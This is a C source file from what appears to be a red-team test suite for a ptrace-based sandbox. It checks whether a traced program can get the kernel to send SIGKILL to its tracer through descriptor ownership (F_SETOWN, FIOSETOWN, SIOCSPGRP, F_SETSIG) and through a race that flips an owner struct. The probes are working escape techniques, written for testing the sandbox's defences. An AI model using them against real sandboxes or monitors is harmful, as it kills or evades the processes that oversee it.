/* tr_owner.c: a signal to the tracer sent by the kernel, not by a call (red team 5, issue 11).
 *
 * kill, tkill, tgkill, rt_sigqueueinfo, pidfd_send_signal and the process group kills are
 * guarded against the tracer.  But a descriptor has an owner, to which the kernel itself
 * sends SIGIO -- or any signal F_SETSIG names, SIGKILL and SIGSTOP included -- when I/O
 * becomes possible (O_ASYNC), a lease breaks or a dnotify event fires.  The owner is set by
 * fcntl(F_SETOWN) (a pid, or -pgid), fcntl(F_SETOWN_EX) (a thread, a process or a group, in
 * memory) or, on a socket, ioctl(FIOSETOWN) / ioctl(SIOCSPGRP); the kernel checks the
 * permission only when it sends (sigio_perm: root, or the same uid).
 *
 *   usage: tr_owner MODE    MODE: setown | setown_ex | pgrp | fiosetown | siocspgrp, or own,
 *                                 race, race_ioctl, or held setown_ex|fiosetown
 *
 * "race" (traced only): a thread flips an F_SETOWN_EX struct between the program and the
 * tracer while another sets it again and again: ESCAPED when F_GETOWN_EX ever shows the tracer
 * (the struct read after its check).  Without a tracer: SKIPPED.  "race_ioctl": the same with
 * FIOSETOWN's int (F_GETOWN shows the owner).
 *
 * "held MODE" (setown_ex | fiosetown): the owner set to the program itself once, with a second
 * thread alive, so the value read is held -- the process's first held call, which the tracer
 * turns into the scratch area's mmap and restarts; it prints the result and whether the owner
 * read back (by the other call) is itself.
 *
 * "own" is the parity probe: the owner set to the program itself and to its own group (a
 * group without the tracer: it makes one), an F_SETOWN_EX struct at NULL and one of an unknown
 * type, the same by FIOSETOWN / SIOCSPGRP (and a NULL int); it prints each result (the same
 * traced as alone) and SIGIO's arrival.
 *
 * Traced, the target is the tracer (TracerPid; its process group for pgrp, siocspgrp).  Without a tracer
 * a forked stand-in is the target (its own group for pgrp): ESCAPED when it died of the
 * SIGKILL.  Traced: BLOCKED when the owner could not be set to the tracer, or the signal did
 * not come; a tracer killed so takes the tree with it (the program never prints after it).
 */
#include "attack.h"

#include <sys/ioctl.h>
#include <sys/socket.h>

static int set_owner(const char *mode, int fd, pid_t target) {
    if (strcmp(mode, "setown") == 0)
        return fcntl(fd, F_SETOWN, target);
    if (strcmp(mode, "setown_ex") == 0) {
        struct f_owner_ex owner = {F_OWNER_PID, target};
        return fcntl(fd, F_SETOWN_EX, &owner);
    }
    if (strcmp(mode, "pgrp") == 0)
        return fcntl(fd, F_SETOWN, -target);
    if (strcmp(mode, "fiosetown") == 0)
        return ioctl(fd, FIOSETOWN, &target);
    if (strcmp(mode, "siocspgrp") == 0) {
        pid_t group = -target;
        return ioctl(fd, SIOCSPGRP, &group);
    }
    usage("tr_owner setown|setown_ex|pgrp|fiosetown|siocspgrp");
}

static int by_group(const char *mode) {
    return strcmp(mode, "pgrp") == 0 || strcmp(mode, "siocspgrp") == 0;
}

static volatile sig_atomic_t got_io;

static void on_io(int sig) {
    (void)sig;
    got_io++;
}

static void own(void) {
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0)
        skipped("socketpair: %s", ename(errno));
    signal(SIGIO, on_io);
    setpgid(0, 0);
    struct f_owner_ex self = {F_OWNER_PID, getpid()}, odd = {7, getpid()};
    struct f_owner_ex group = {F_OWNER_PGRP, getpgrp()};
    int r;
    r = fcntl(sv[0], F_SETOWN, getpid());
    printf("F_SETOWN self: %s\n", r < 0 ? ename(errno) : "ok");
    r = fcntl(sv[0], F_SETOWN, -getpgrp());
    printf("F_SETOWN -own group: %s\n", r < 0 ? ename(errno) : "ok");
    r = fcntl(sv[0], F_SETOWN_EX, NULL);
    printf("F_SETOWN_EX NULL: %s\n", r < 0 ? ename(errno) : "ok");
    r = fcntl(sv[0], F_SETOWN_EX, &odd);
    printf("F_SETOWN_EX type 7: %s\n", r < 0 ? ename(errno) : "ok");
    r = fcntl(sv[0], F_SETOWN_EX, &group);
    printf("F_SETOWN_EX own group: %s\n", r < 0 ? ename(errno) : "ok");
    pid_t me = getpid(), my_group = -getpgrp();
    r = ioctl(sv[0], FIOSETOWN, &me);
    printf("FIOSETOWN self: %s, F_GETOWN %d\n", r < 0 ? ename(errno) : "ok",
           fcntl(sv[0], F_GETOWN) == getpid());
    r = ioctl(sv[0], SIOCSPGRP, &my_group);
    printf("SIOCSPGRP -own group: %s, F_GETOWN %d\n", r < 0 ? ename(errno) : "ok",
           fcntl(sv[0], F_GETOWN) == -getpgrp());
    r = ioctl(sv[0], FIOSETOWN, NULL);
    printf("FIOSETOWN NULL: %s\n", r < 0 ? ename(errno) : "ok");
    r = fcntl(sv[0], F_SETOWN_EX, &self);
    printf("F_SETOWN_EX self: %s, F_GETOWN %d\n", r < 0 ? ename(errno) : "ok",
           fcntl(sv[0], F_GETOWN) == getpid());
    fcntl(sv[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (write(sv[1], "x", 1) != 1)
        printf("write: %s\n", ename(errno));
    for (int i = 0; i < 100 && !got_io; i++)
        usleep(10000);
    printf("SIGIO: %s\n", got_io ? "came" : "did not come");
    exit(0);
}

static volatile struct f_owner_ex flipped;
static volatile pid_t flip_a, flip_b;
static volatile int flipping = 1;

static void *flipper(void *arg) {
    (void)arg;
    while (flipping) {
        flipped.pid = flip_a;
        flipped.pid = flip_b;
    }
    return NULL;
}

static volatile pid_t flipped_int;

static void *int_flipper(void *arg) {
    (void)arg;
    while (flipping) {
        flipped_int = flip_a;
        flipped_int = flip_b;
    }
    return NULL;
}

static void race(int by_ioctl) {
    pid_t tracer = tracer_pid();
    if (tracer <= 0)
        skipped("no tracer to race against");
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0)
        skipped("socketpair: %s", ename(errno));
    flipped.type = F_OWNER_PID;
    flip_a = getpid();
    flip_b = tracer;
    pthread_t thread;
    pthread_create(&thread, NULL, by_ioctl ? int_flipper : flipper, NULL);
    long refused = 0, set = 0;
    double until = now_s() + 3;
    while (now_s() < until) {
        if ((by_ioctl ? ioctl(sv[0], FIOSETOWN, (pid_t *)&flipped_int)
                      : fcntl(sv[0], F_SETOWN_EX, (struct f_owner_ex *)&flipped)) < 0) {
            refused++;
            continue;
        }
        set++;
        struct f_owner_ex now;
        if (fcntl(sv[0], F_GETOWN_EX, &now) == 0 && now.pid == tracer) {
            flipping = 0;
            escaped("the owner is the tracer (%ld set, %ld refused)", set, refused);
        }
    }
    flipping = 0;
    blocked("the owner was never the tracer (%ld set, %ld refused)", set, refused);
}

static void *blocked_reader(void *arg) {
    char byte;
    (void)!read(*(int *)arg, &byte, 1);
    return NULL;
}

static void held(const char *mode) {
    int sv[2], gate[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0 || pipe(gate) < 0)
        skipped("socketpair: %s", ename(errno));
    pthread_t thread;
    pthread_create(&thread, NULL, blocked_reader, &gate[0]);
    int r = set_owner(mode, sv[0], getpid());
    /* (read back by the other call: the one that set it is the only call of its kind) */
    pid_t owner = 0;
    if (strcmp(mode, "fiosetown") == 0)
        owner = fcntl(sv[0], F_GETOWN);
    else
        (void)!ioctl(sv[0], FIOGETOWN, &owner);
    printf("%s self: %s, owner %d\n", mode, r < 0 ? ename(errno) : "ok", owner == getpid());
    exit(0);
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "held") == 0)
        held(argv[2]);
    if (argc == 2 && strcmp(argv[1], "race") == 0)
        race(0);
    if (argc == 2 && strcmp(argv[1], "race_ioctl") == 0)
        race(1);
    if (argc != 2)
        usage("tr_owner setown|setown_ex|pgrp|fiosetown|siocspgrp|own|race|race_ioctl");
    const char *mode = argv[1];
    if (strcmp(mode, "own") == 0)
        own();
    pid_t tracer = tracer_pid(), standin = 0, target;
    if (tracer > 0) {
        target = by_group(mode) ? getpgid(tracer) : tracer;
        if (by_group(mode) && target != getpgrp())
            skipped("the tracer is not in our process group");
    } else {
        standin = fork();
        if (standin == 0) {
            setpgid(0, 0);
            pause();
            _exit(0);
        }
        setpgid(standin, standin);
        target = standin;
    }
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0)
        skipped("socketpair: %s", ename(errno));
    if (set_owner(mode, sv[0], target) < 0)
        blocked("setting the owner to %d: %s", (int)target, ename(errno));
    if (fcntl(sv[0], F_SETSIG, SIGKILL) < 0 || fcntl(sv[0], F_SETFL, O_ASYNC | O_NONBLOCK) < 0)
        blocked("F_SETSIG/O_ASYNC: %s", ename(errno));
    note("owner of the descriptor: %d (%s), its signal SIGKILL", (int)target, mode);
    if (write(sv[1], "x", 1) != 1)
        blocked("write: %s", ename(errno));
    if (standin) {
        int status = 0;
        struct timespec tick = {0, 10 * 1000 * 1000};
        for (int i = 0; i < 200 && waitpid(standin, &status, WNOHANG) == 0; i++)
            nanosleep(&tick, NULL);
        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
            escaped("the kernel sent the descriptor's owner (a stand-in) SIGKILL");
        kill(standin, SIGKILL);
        blocked("the stand-in was not killed");
    }
    sleep(1);
    blocked("still here: the tracer was not signalled");
}
